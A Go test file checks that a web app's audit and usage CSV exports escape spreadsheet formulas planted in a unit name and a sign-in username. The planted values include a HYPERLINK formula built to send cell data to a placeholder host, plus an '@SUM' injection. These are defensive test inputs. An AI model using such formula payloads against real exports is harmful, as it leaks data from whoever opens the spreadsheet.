package web

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"baocao/internal/accounts"
)

// TestCSVDownloadsDoNotRunFormulas plants formulas where a stranger or a
// unit can write text (a username typed at sign-in, a unit's name): the
// audit and usage CSVs carry them as text.
func TestCSVDownloadsDoNotRunFormulas(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	sys := h.account("qtht", "so-kh-cn", accounts.SystemAdmin)
	h.account("nhaplieu.nhatrang", "xa-22366", accounts.User, accounts.Enter)
	const formula = `=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")`
	if _, err := h.db.Exec(h.ctx, `UPDATE units SET name = $1 WHERE key = 'xa-22366'`, formula); err != nil {
		t.Fatal(err)
	}
	cookie, csrf := h.anonymousSession()
	h.do("POST", "/signin", cookie, url.Values{"csrf_token": {csrf}, "username": {"@SUM(1+1)"}, "password": {"x"}})

	sysCookie, _ := h.sessionFor(sys)
	for _, target := range []string{"/admin/audit/export?action=signin.failure", "/usage?period=2026&format=csv"} {
		rec := h.do("GET", target, sysCookie, nil)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\ufeff"))).ReadAll()
		if rec.Code != http.StatusOK || err != nil || len(rows) < 2 {
			t.Fatalf("%s: %d %v", target, rec.Code, err)
		}
		planted := false
		for _, row := range rows {
			for _, cell := range row {
				if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") {
					t.Errorf("%s: a live formula %q", target, cell)
				}
				planted = planted || cell == "'"+formula || cell == "'@sum(1+1)"
			}
		}
		if !planted {
			t.Errorf("%s: the planted text is missing: %q", target, rows)
		}
	}
}
